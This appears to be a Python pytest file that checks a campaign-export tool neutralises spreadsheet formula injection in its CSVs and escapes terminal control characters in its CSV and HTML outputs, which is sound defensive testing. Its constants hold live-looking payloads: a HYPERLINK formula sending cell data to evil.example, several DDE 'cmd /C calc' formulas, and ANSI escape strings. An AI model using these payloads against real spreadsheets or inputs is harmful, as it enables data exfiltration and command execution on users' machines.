"""Text from a campaign is inert in what the bundle carries for people: no formula a spreadsheet
would run in the CSVs (DESIGN.md §6), no control character in the CSVs or the HTML report."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json

import pytest

from convergence_tui.report.tables import cell
from convergence_tui.usecases.session import Session
from tests.conftest import MINI
from tests.test_bundle import PASSWORD, entries_of, identity

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_FORMULA = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    (CMD, "'" + CMD),
    (SUM, "'" + SUM),
    ("-cmd", "'-cmd"),
    (MINUS_FORMULA, "'" + MINUS_FORMULA),  # a digit after the sign does not make it a number
    ("\tx", "'\tx"),
    ("\r=1+1", "\\x0d=1+1"),  # a carriage return is made visible: no longer first, nothing to run
    (-3, "-3"),
    (-2.5, "-2,5"),
    ("-3", "-3"),
    ("-", "-"),
    (42.125, "42,125"),
    ("Télé-expertise", "Télé-expertise"),
    ("a\x1b[31mb", "a\\x1b[31mb"),
    ("ligne 1\nligne 2", "ligne 1\nligne 2"),
])
def test_csv_cell(value, written):
    assert cell(value) == written


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_formulas_in_names_and_titles_are_neutralised_in_the_bundle(cli, complete_db, identity, tmp_path,
                                                                    monkeypatch):
    with Session.open(complete_db, MINI) as s:
        first, second = s.data.live_ids("service")
        s.set_answer(first, "name", HYPERLINK)
        s.set_answer(second, "name", CMD)
        actions = s.data.live_ids("action")
        s.set_answer(actions[0], "title", SUM)
        s.set_answer(actions[1], "title", MINUS_FORMULA)
        assert s.data.value(first, "name") == HYPERLINK  # accepted as typed: only the CSV neutralises
    monkeypatch.setenv("CONVERGENCE_P12_PASSWORD", PASSWORD)
    code, _, err = cli("export", "--referentiel", MINI, "--db", complete_db, "--p12", identity, "--draft",
                       "--out", tmp_path / "out")
    assert code == 0, err
    (bundle,) = (tmp_path / "out").glob("*.zip")
    entries = entries_of(bundle)
    services = read_csv(entries["services.csv"])
    assert [r[1] for r in services[1:]] == ["'" + HYPERLINK, "'" + CMD]
    plan = read_csv(entries["plan.csv"])
    titles = [r[plan[0].index("action")] for r in plan[1:]]
    assert titles == ["'" + SUM, "'" + MINUS_FORMULA]
    assert all(not c.startswith(("=", "+", "@", "-")) for row in services[1:] + plan[1:] for c in row if c)
    assert html.escape(HYPERLINK) in entries["rapport.html"].decode()  # the report shows it as text
    # The regenerated entries are the same bytes: the bundle verifies.
    code, _, err = cli("verify", bundle, "--referentiel", MINI)
    assert code == 0, err


@pytest.fixture
def rebuilt(complete_db):
    from convergence_tui.campaign.rebuilt import rebuild

    with Session.open(complete_db, MINI) as s:
        return rebuild(s.ref, s.answers_document(), dt.date(2023, 1, 15))


CLAIMS = {"created_at": "2026-12-01T10:00:00Z", "draft": True, "validation": None,
          "signer": {"subject": "Camille", "certificate_sha256": "ab" * 32},
          "referentiel": {"id": "mini", "version": "1", "official": False}}
HOSTILE = "S\x1b[2J\x1b[8m\u202eevil\x07"


def test_report_escapes_control_characters(rebuilt):
    from convergence_tui.report import html as report_html
    from convergence_tui.report.data import report_data

    data = report_data(rebuilt, CLAIMS, rebuilt.blockers())
    data["services"][0]["name"] = HOSTILE
    data["services"][0]["actions"][0]["title"] = HOSTILE
    data["services"][0]["blockers"][0]["description"] = "frein\n" + HOSTILE
    data["timeline"]["rows"][0]["name"] = HOSTILE
    data["missing"].append(HOSTILE)
    data["signer"]["subject"] = HOSTILE
    text = report_html.render(data).decode("utf-8")
    for bad in ("\x1b", "\x07", "\u202e"):
        assert bad not in text
    assert text.count("S\\x1b[2J\\x1b[8m\\u202eevil\\x07") >= 6
    assert "NON officiel" in text


def test_csv_tables_escape_control_characters(rebuilt):
    from convergence_tui.report import tables

    scores = json.loads(json.dumps(rebuilt.scores_doc))
    answers = json.loads(json.dumps(rebuilt.answers))
    scores["services"][0]["name"] = HOSTILE
    answers["services"][0]["fields"]["vendor"] = "\r" + HOSTILE
    answers["actions"][0]["title"] = HOSTILE
    answers["blockers"][0]["description"] = HOSTILE
    for data in (tables.services_csv(rebuilt.ref, scores, answers), tables.plan_csv(rebuilt.ref, answers)):
        text = data.decode("utf-8")
        for bad in ("\x1b", "\x07", "\u202e"):
            assert bad not in text
        assert "S\\x1b[2J\\x1b[8m\\u202eevil\\x07" in text
    assert "\r" + HOSTILE not in tables.services_csv(rebuilt.ref, scores, answers).decode("utf-8")
